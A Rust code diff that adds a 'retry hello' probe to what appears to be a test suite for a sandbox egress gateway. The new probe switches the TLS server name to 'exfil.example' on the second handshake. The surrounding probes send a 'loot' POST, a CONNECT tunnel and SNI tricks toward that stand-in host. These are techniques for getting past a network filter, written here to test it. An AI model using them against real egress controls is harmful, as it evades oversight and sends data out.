@@ -34,6 +34,7 @@ pub(crate) const PROBES: &[(&str, Probe)] = &[
     ("sni-punycode", |_| say(&hello::record(&name("xn--pi-7tb.together.xyz")))),
     ("sni-address", |_| say(&hello::record(&name("203.0.113.10")))),
     ("sni-encrypted", |_| say(&hello::record(&[name(ALLOWED), hello::encrypted()].concat()))),
+    ("sni-retry", |_| say_again()),
     ("http-plain", |_| say(b"POST / HTTP/1.1\r\nHost: exfil.example\r\nContent-Length: 4\r\n\r\nloot")),
     ("http-connect", |_| say(b"CONNECT exfil.example:443 HTTP/1.1\r\nHost: api.together.xyz\r\n\r\n")),
     ("http-absolute", |_| say(b"GET http://exfil.example/loot HTTP/1.1\r\nHost: api.together.xyz\r\n\r\n")),
@@ -83,6 +84,17 @@ fn say_at(address: SocketAddr, bytes: &[u8]) -> Told {
     connect(fd, &bytes_of(address))?;
     send(fd, bytes)?;
     Ok(hear(fd))
+}
+
+/// The allowed name first, another one when the server asks for a second hello.
+fn say_again() -> Told {
+    let fd = socket(libc::AF_INET, STREAM, 0)?;
+    patience(fd, GATEWAY_WAIT);
+    connect(fd, &bytes_of(lookup(ALLOWED, 443)?))?;
+    send(fd, &hello::without_share(ALLOWED))?;
+    let request = hear(fd);
+    send(fd, &hello::with_share("exfil.example"))?;
+    Ok(format!("{request}, then {}", hear(fd)))
 }
 
 /// The allowed name with another address behind it, in the file that every resolver reads first.
